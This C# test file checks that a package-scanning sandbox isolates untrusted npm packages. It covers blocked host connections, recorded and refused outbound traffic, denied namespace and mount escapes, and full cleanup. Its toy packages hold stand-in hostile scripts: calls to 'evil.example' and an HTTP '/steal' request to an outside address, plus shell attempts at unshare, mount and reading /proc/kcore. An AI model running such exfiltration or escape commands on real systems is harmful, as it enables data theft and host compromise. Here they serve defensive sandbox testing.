using System.Net;
using System.Net.NetworkInformation;
using System.Net.Sockets;
using Fangs.Runner.Sandbox;
using Fangs.Runner.Sandbox.Network;

namespace Fangs.Tests.Runner.Sandbox;

/// <summary>Nothing gets out of a sandbox, and nothing of it stays.</summary>
public sealed class SandboxIsolationSpecs : IAsyncLifetime
{
    private ToyRegistry _registry = null!;
    private SandboxHost _host = null!;

    public async Task InitializeAsync()
    {
        _registry = await ToyRegistry.StartAsync();
        _host = SandboxHost.For(_registry);
    }

    public async Task DisposeAsync()
    {
        await _host.DisposeAsync();
        await _registry.DisposeAsync();
    }

    [SkippableFact]
    public async Task A_server_on_the_loopback_of_the_host_is_not_reached()
    {
        SandboxHost.RequireKernel();
        using var server = new TcpListener(IPAddress.Any, 0);
        server.Start();
        var port = ((IPEndPoint)server.LocalEndpoint).Port;
        var addresses = NetworkInterface.GetAllNetworkInterfaces().SelectMany(i => i.GetIPProperties().UnicastAddresses)
            .Select(a => a.Address).Where(a => a.AddressFamily == AddressFamily.InterNetwork).Append(IPAddress.Loopback).Distinct();
        var script = string.Join(";", addresses.Select(a => $"require('net').connect({port},'{a}').on('error',e=>console.log('{a}',e.code)).end('x')"));
        _registry.Publish("toy", null, script);
        var (outcome, output) = await _host.RunAsync(SandboxHost.Scan("toy", ToyRegistry.Version));
        Assert.True(outcome.FailureReason is null, outcome.FailureReason);
        Assert.Contains("127.0.0.1 ECONNREFUSED", output);
        Assert.False(server.Pending());
    }

    [SkippableFact]
    public async Task Connections_elsewhere_are_recorded_and_end_in_the_gateway()
    {
        SandboxHost.RequireKernel();
        _registry.Publish("toy", """
            node -e "
            require('dns').lookup('secrets.evil.example', (e, a) => console.log('resolved', a));
            require('tls').connect(443, 'evil.example', {servername: 'evil.example'}).on('error', e => console.log('tls', e.code));
            require('http').get('http://1.1.1.1:8080/steal?x=1').on('error', e => console.log('http', e.code));
            "
            """);
        using var limit = new CancellationTokenSource(SandboxHost.Patience);
        var sandbox = (OciSandbox)await _host.CreateAsync(SandboxHost.Scan("toy", ToyRegistry.Version));
        await using var end = sandbox.DisposedSoon();
        var outcome = await sandbox.RunAsync((_, _) => { }, limit.Token).WaitAsync(2 * SandboxHost.Patience);
        Assert.True(outcome.FailureReason is null, $"{outcome.FailureReason}\n{sandbox.OutputTail}");
        Assert.Contains("resolved 198.18.", sandbox.OutputTail);
        Assert.Contains("tls ECONNRESET", sandbox.OutputTail);
        var records = sandbox.Gateway.Records;
        Assert.Contains(records, r => r is { Kind: GatewayRecordKind.Dns, Name: "secrets.evil.example" });
        Assert.Contains(records, r => r is { Kind: GatewayRecordKind.Refused, Name: "evil.example", Port: 443, Note: "tls client hello" });
        Assert.Contains(records, r => r is { Kind: GatewayRecordKind.Refused, Address: "1.1.1.1", Port: 8080, Note: "http GET /steal?x=1 HTTP/1.1" });
        Assert.All(records.Where(r => r.Kind == GatewayRecordKind.Allowed), r => Assert.Equal(_registry.Address.Port, r.Port));
    }

    [SkippableFact]
    public async Task The_registry_is_out_of_reach_once_the_package_is_installed()
    {
        SandboxHost.RequireKernel();
        _registry.Publish("toy", null, $"require('http').get('{_registry.Address}toy', r => console.log('reached', r.statusCode)).on('error', e => console.log('registry', e.code))");
        var (outcome, output) = await _host.RunAsync(SandboxHost.Scan("toy", ToyRegistry.Version));
        Assert.True(outcome.FailureReason is null, outcome.FailureReason);
        Assert.Contains("registry ECONNRESET", output);
    }

    [SkippableFact]
    public async Task Escapes_into_namespaces_mounts_and_the_kernel_are_denied()
    {
        SandboxHost.RequireKernel();
        var (outcome, output) = await _host.RunAsync(SandboxHost.Command(
            "/bin/sh", "-c", "unshare -U true; unshare -n true; mount -t tmpfs x /tmp; echo $?; ls /sys/fs/cgroup; cat /proc/kcore | head -c 1; ip route; exit 0"));
        Assert.Equal(0, outcome.ExitCode);
        Assert.Equal(2, output.Split("unshare failed: Operation not permitted").Length - 1);
        Assert.DoesNotContain("\n0\n", output);
    }

    [SkippableFact]
    public async Task Nothing_is_left_of_a_sandbox_and_the_host_is_as_before()
    {
        SandboxHost.RequireKernel();
        _registry.Publish("toy", "(sleep 1000 &) ; (setsid sleep 1000 &) ; echo started");
        var before = await HostStateAsync();
        var job = SandboxHost.Scan("toy", ToyRegistry.Version);
        using var limit = new CancellationTokenSource(SandboxHost.Patience);
        var sandbox = await _host.CreateAsync(job);
        await using var end = sandbox.DisposedSoon();
        Assert.Equal($"{CgroupHost.Find()!.V2Root}/fangs/{job.RunId}", sandbox.CgroupPath);
        Assert.Single(await File.ReadAllLinesAsync(sandbox.CgroupPath + "/cgroup.procs"));
        var outcome = await sandbox.RunAsync((_, _) => { }, limit.Token).WaitAsync(2 * SandboxHost.Patience);
        Assert.True(outcome.FailureReason is null, outcome.FailureReason);
        var members = await File.ReadAllLinesAsync(sandbox.CgroupPath + "/cgroup.procs");
        Assert.True(members.Length >= 3, "what the package left running goes on until disposal");
        await sandbox.DisposeAsync().Soon();
        await sandbox.DisposeAsync().Soon();
        Assert.Empty(SandboxHost.CgroupsOf(job.RunId));
        Assert.DoesNotContain(members, m => Directory.Exists("/proc/" + m) && !File.ReadAllText($"/proc/{m}/stat").Contains(") Z "));
        Assert.Empty(Directory.GetFiles(_host.StateDirectory, "*", SearchOption.AllDirectories));
        Assert.Equal(before, await HostStateAsync());
    }

    [SkippableFact]
    public async Task A_sweep_removes_what_a_crashed_runner_left_but_nothing_of_other_runners()
    {
        SandboxHost.RequireKernel();
        _registry.Publish("toy", "echo ready; sleep 1000");
        var job = SandboxHost.Scan("toy", ToyRegistry.Version);
        using var limit = new CancellationTokenSource(SandboxHost.Patience);
        var abandoned = await _host.CreateAsync(job);
        await using var end = abandoned.DisposedSoon();
        var run = abandoned.RunAsync((_, _) => { }, limit.Token);

        await using (var stranger = SandboxHost.For(_registry))
        {
            stranger.Settings = stranger.Settings with { StateDirectory = _host.StateDirectory };
            Assert.Empty(await stranger.Driver().SweepAsync(limit.Token).Soon());
        }

        Assert.NotEmpty(SandboxHost.CgroupsOf(job.RunId));
        var removed = await _host.Driver().SweepAsync(limit.Token).Soon();
        Assert.Equal([$"sandbox {job.RunId}"], removed);
        Assert.Empty(SandboxHost.CgroupsOf(job.RunId));
        Assert.Empty(Directory.GetFiles(_host.StateDirectory, "*", SearchOption.AllDirectories));
        Assert.Empty(await _host.Driver().SweepAsync(limit.Token).Soon());
        var ended = await Record.ExceptionAsync(() => run.WaitAsync(2 * SandboxHost.Patience));
        Assert.True(ended is SandboxException || (await run).FailureReason is not null);
    }

    [SkippableFact]
    public async Task A_sweep_leaves_sandboxes_of_its_own_driver_alone()
    {
        SandboxHost.RequireKernel();
        var driver = _host.Driver();
        var sandbox = await driver.CreateAsync(SandboxHost.Command("/bin/true"), CancellationToken.None).Soon();
        await using var end = sandbox.DisposedSoon();
        Assert.Empty(await driver.SweepAsync(CancellationToken.None).Soon());
        Assert.Equal(0, (await sandbox.RunAsync((_, _) => { }, CancellationToken.None).Soon()).ExitCode);
    }

    private static async Task<string> HostStateAsync()
    {
        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        var npm = new DirectoryInfo(Path.Combine(home, ".npm"));
        var device = CommandLine.Find("stat")!;
        using var stat = CommandLine.Start(device, ["-c", "%a %u %g %t %T", "/dev/null"]);
        return string.Join('\n',
            File.ReadAllText("/proc/net/fib_trie"),
            string.Join('\n', File.ReadLines("/proc/net/route").Select(l => string.Join(' ', l.Split('\t').Take(4)))),
            string.Join(' ', NetworkInterface.GetAllNetworkInterfaces().SelectMany(i => i.GetIPProperties().UnicastAddresses).Select(a => a.Address)),
            await stat.StandardOutput.ReadToEndAsync().Soon(),
            npm.Exists ? string.Join(' ', npm.EnumerateFileSystemInfos().Select(f => $"{f.Name} {f.LastWriteTimeUtc:O}")) : "no ~/.npm",
            new FileInfo(Path.Combine(home, ".npmrc")) is { Exists: true } rc ? $"{rc.LastWriteTimeUtc:O} {rc.Length}" : "no ~/.npmrc");
    }
}
